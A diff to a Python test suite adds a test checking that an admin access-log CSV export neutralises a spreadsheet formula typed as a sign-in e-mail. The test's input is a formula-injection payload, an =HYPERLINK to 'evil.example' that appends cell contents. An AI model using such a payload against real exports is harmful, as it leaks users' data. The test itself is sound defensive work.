@@ -3,6 +3,9 @@ who and from where, kept in the database and listed for admins only."""
 
 from __future__ import annotations
 
+import csv
+import io
+
 from harness.web import sign_in
 from tests.fixtures.web import AuthActions, make_user
 from tests.test_sessions import edit_user, signed_in_client
@@ -99,3 +102,15 @@ def test_a_refused_sign_in_with_control_characters_is_recorded_without_them(app,
     assert sign_in(client, "\x00nobody\x07@example.com", "not the password").status_code == 200
 
     assert events()[-1][:2] == (AccessEventKind.SIGN_IN_REFUSED, "nobody@example.com")
+
+
+def test_a_formula_typed_as_the_e_mail_at_sign_in_is_exported_as_text(app, client, auth):
+    typed = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"x")'
+    assert sign_in(client, typed, "not the password").status_code == 200
+    auth.login(Role.ADMIN)
+
+    export = client.get("/admin/access-log/export/csv/").get_data(as_text=True)
+
+    cells = [cell for row in csv.reader(io.StringIO(export)) for cell in row]
+    assert "'" + typed.lower() in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
